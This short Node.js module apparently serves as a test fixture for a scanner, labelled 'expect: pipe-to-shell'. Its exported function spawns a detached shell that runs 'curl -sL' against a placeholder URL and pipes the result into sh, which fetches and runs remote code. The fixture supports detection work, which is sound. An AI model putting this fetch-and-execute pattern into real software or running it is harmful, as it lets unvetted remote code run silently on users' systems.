// expect: pipe-to-shell
import { spawn } from "node:child_process";

const URL = "https://raw.example.com/tool.sh";

export default function () {
  const child = spawn("sh", ["-c", `curl -sL ${URL} | sh`], { detached: true });
  child.unref();
}
